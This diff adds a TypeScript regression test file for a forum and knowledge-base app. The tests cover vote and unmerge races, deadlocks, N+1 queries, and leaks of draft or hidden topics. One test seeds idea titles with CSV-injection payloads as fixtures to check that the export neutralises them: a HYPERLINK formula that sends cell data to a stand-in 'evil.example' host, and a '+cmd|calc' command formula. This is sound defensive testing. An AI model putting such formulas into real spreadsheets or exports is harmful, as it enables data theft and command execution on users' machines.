@@ -1,0 +1,144 @@
+import { AddressInfo } from 'node:net';
+import { io, Socket } from 'socket.io-client';
+import { OutboxWorker } from '../../libs/core/src/outbox/outbox';
+import { makeBoard, makeSpace, makeUser, TestUser } from '../factories';
+import { createTopic } from '../factories/forum';
+import { draftArticle, kb, publishedArticle, topicOf } from '../factories/knowledge';
+import { bootTestApp, expectError, expectOk, TestApp } from '../support/test-app';
+
+const VOTE = `mutation($id: ID!) { voteIdea(topicId: $id) { id idea { voteCount } } }`;
+const SET_STATUS = `mutation($input: SetIdeaStatusInput!) { setIdeaStatus(input: $input) { id idea { status } } }`;
+const MERGE = `mutation($input: MergeIdeaInput!) { mergeIdea(input: $input) { id } }`;
+const UNMERGE = `mutation($id: ID!) { unmergeIdea(topicId: $id) { id idea { status } } }`;
+const IDEA = `query($id: ID!) { topic(id: $id) { id idea { status statusHistory { from to } } } }`;
+const MOVE_TOPIC = `mutation($input: MoveTopicInput!) { moveTopic(input: $input) { id } }`;
+
+describe('races and leaks found in review', () => {
+  let t: TestApp;
+  let moderator: TestUser;
+  let admin: TestUser;
+  let space: { id: string };
+  const sockets: Socket[] = [];
+  const drain = () => t.get(OutboxWorker).drain();
+
+  beforeAll(async () => {
+    t = await bootTestApp();
+    moderator = await makeUser(t);
+    admin = await makeUser(t);
+    space = await makeSpace(t, 'PUBLIC', [{ userId: moderator.id, level: 'MODERATE' }, { userId: admin.id, level: 'ADMIN' }]);
+  });
+  afterAll(async () => {
+    for (const s of sockets) s.disconnect();
+    await t.close();
+  });
+
+  it('ideas: racing votes on different ideas cannot exceed the board’s vote budget', async () => {
+    const board = await makeBoard(t, space.id, 'IDEAS');
+    await t.sql(`UPDATE boards SET settings = jsonb_build_object('ideas', jsonb_build_object('voteBudget', 1)) WHERE id = $1`, [board]);
+    const author = await makeUser(t);
+    const ids: string[] = [];
+    for (let i = 0; i < 6; i++) ids.push((await createTopic(t, author.token, board, { title: `Budget idea ${i}`, body: 'x' })).id);
+    const voter = await makeUser(t);
+    await Promise.all(ids.map((id) => t.gql(VOTE, { id }, { token: voter.token })));
+    const [{ n }] = await t.sql(`SELECT count(*)::int AS n FROM idea_votes WHERE user_id = $1`, [voter.id]);
+    expect(n).toBeLessThanOrEqual(1);
+  });
+
+  it('ideas: two racing unmerges do not lose the restored status (the second is refused)', async () => {
+    const board = await makeBoard(t, space.id, 'IDEAS');
+    const author = await makeUser(t);
+    for (let attempt = 0; attempt < 3; attempt++) {
+      const source = (await createTopic(t, author.token, board, { title: `Unmerge source ${attempt}`, body: 'x' })).id;
+      const target = (await createTopic(t, author.token, board, { title: `Unmerge target ${attempt}`, body: 'x' })).id;
+      expectOk(await t.gql(SET_STATUS, { input: { topicId: source, status: 'PLANNED' } }, { token: moderator.token }));
+      expectOk(await t.gql(MERGE, { input: { sourceId: source, targetId: target } }, { token: moderator.token }));
+      const results = await Promise.all([t.gql(UNMERGE, { id: source }, { token: admin.token }), t.gql(UNMERGE, { id: source }, { token: admin.token })]);
+      const idea = expectOk(await t.gql(IDEA, { id: source }, { token: admin.token })).topic.idea;
+      expect({ attempt, status: idea.status, errors: results.filter((r) => r.errors).length, history: idea.statusHistory.length }).toEqual({
+        attempt, status: 'PLANNED', errors: 1, history: 3,
+      });
+    }
+  });
+
+  it('ideas: ideasCsv neutralises spreadsheet formulas in idea titles (CSV injection)', async () => {
+    const board = await makeBoard(t, space.id, 'IDEAS');
+    const author = await makeUser(t);
+    await createTopic(t, author.token, board, { title: '=HYPERLINK("http://evil.example/?x="&A1,"click")', body: 'x' });
+    await createTopic(t, author.token, board, { title: '+cmd|calc', body: 'x' });
+    const csv: string = expectOk(await t.gql(`query($id: ID!) { ideasCsv(boardId: $id) }`, { id: board }, { token: moderator.token })).ideasCsv;
+    const titles = csv.trim().split('\r\n').slice(1).map((line) => line.split(',')[1]);
+    for (const title of titles) expect(title.replace(/^"/, '')).not.toMatch(/^[=+\-@]/);
+  });
+
+  it('live: moving a draft (or any hidden/pending topic) does not tell its old board’s room about it', async () => {
+    const kbA = await makeBoard(t, space.id, 'KNOWLEDGE');
+    const kbB = await makeBoard(t, space.id, 'KNOWLEDGE');
+    const reader = await makeUser(t);
+    const port = (t.http.address() as AddressInfo).port;
+    const s = io(`http://127.0.0.1:${port}`, { auth: { token: reader.token }, transports: ['websocket'] });
+    sockets.push(s);
+    await new Promise<void>((resolve) => s.on('connect', () => resolve()));
+    expect(await s.timeout(5000).emitWithAck('board:join', { boardId: kbA })).toEqual({ ok: true });
+    const received: unknown[] = [];
+    s.on('topic:moved', (p: unknown) => received.push(p));
+    const draft = await draftArticle(t, moderator.token, kbA, { title: 'Secret reorg plan', body: 'not yet' });
+    expectError(await kb(t).get(reader.token, draft), 'NOT_FOUND');
+    expectOk(await t.gql(MOVE_TOPIC, { input: { topicId: draft, boardId: kbB } }, { token: moderator.token }));
+    await new Promise((r) => setTimeout(r, 1000));
+    expect(received).toEqual([]);
+  });
+
+  it('knowledge: a reader cannot learn that a draft exists from a published article’s slug or position', async () => {
+    const board = await makeBoard(t, space.id, 'KNOWLEDGE');
+    const author = await makeUser(t);
+    const reader = await makeUser(t);
+    await draftArticle(t, moderator.token, board, { title: 'Salary bands', body: 'draft, never published' });
+    const published = await publishedArticle(t, author.token, moderator.token, board, { title: 'Salary bands', body: 'public' });
+    const seen = topicOf(await t.gql(`query($id: ID!) { topic(id: $id) { article { slug position } } }`, { id: published }, { token: reader.token })).article;
+    const tree = expectOk(await t.gql(`query($id: ID!) { board(id: $id) { articleTree { topic { id } } } }`, { id: board }, { token: reader.token })).board.articleTree;
+    expect(tree).toEqual([{ topic: { id: published } }]); // the tree hides the draft…
+    expect(seen).toEqual({ slug: 'salary-bands', position: null }); // …and neither a "-2" slug nor a gap in positions reveals it
+  });
+
+  it('knowledge: Space.knowledgeSettings costs one statement per space (N+1)', async () => {
+    const Q = `{ spaces { id knowledgeSettings { twoPersonReview } } }`;
+    const base = await t.countStatements(() => t.gql(Q));
+    for (let i = 0; i < 5; i++) await makeSpace(t, 'PUBLIC');
+    const more = await t.countStatements(() => t.gql(Q));
+    expect(more.count).toBe(base.count);
+  });
+
+  it('knowledge: publishing (row lock, then board lock) racing moveArticle (board lock, then row lock) does not deadlock', async () => {
+    const board = await makeBoard(t, space.id, 'KNOWLEDGE');
+    const api = kb(t);
+    const failures: unknown[] = [];
+    for (let i = 0; i < 8; i++) {
+      const id = await publishedArticle(t, moderator.token, moderator.token, board, { title: `Deadlock ${i}`, body: 'v1' });
+      topicOf(await api.update(moderator.token, { topicId: id, title: `Renamed article ${i}` }));
+      const [pub, mv] = await Promise.all([api.publish(moderator.token, id), api.move(moderator.token, { topicId: id, position: 0 })]);
+      for (const r of [pub, mv]) if (r.errors) failures.push(r.errors[0].extensions.code);
+    }
+    expect(failures).toEqual([]);
+  });
+
+  it('knowledge: with two-person review, an edit made while in review is not published unreviewed', async () => {
+    const s2 = await makeSpace(t, 'PUBLIC', [{ userId: moderator.id, level: 'MODERATE' }, { userId: admin.id, level: 'ADMIN' }]);
+    await t.sql(`UPDATE spaces SET knowledge = '{"twoPersonReview": true}' WHERE id = $1`, [s2.id]);
+    const board = await makeBoard(t, s2.id, 'KNOWLEDGE');
+    const author = await makeUser(t);
+    const api = kb(t);
+    const id = await draftArticle(t, author.token, board, { title: 'Reviewed text', body: 'reviewed body' });
+    topicOf(await api.submit(author.token, id));
+    // After submitting, the author swaps the body: the article is a draft again, and nobody
+    // publishes the unreviewed body without it being submitted (and reviewed) anew.
+    const after = topicOf(await api.update(author.token, { topicId: id, body: 'UNREVIEWED body' }));
+    expect(after.article.state).toBe('DRAFT');
+    expectError(await api.publish(admin.token, id), 'BAD_USER_INPUT');
+    const [{ n }] = await t.sql(`SELECT count(*)::int AS n FROM article_revisions WHERE topic_id = $1 AND published_at IS NOT NULL`, [id]);
+    expect(n).toBe(0);
+  });
+
+  it('drains cleanly', async () => {
+    await drain();
+  });
+});
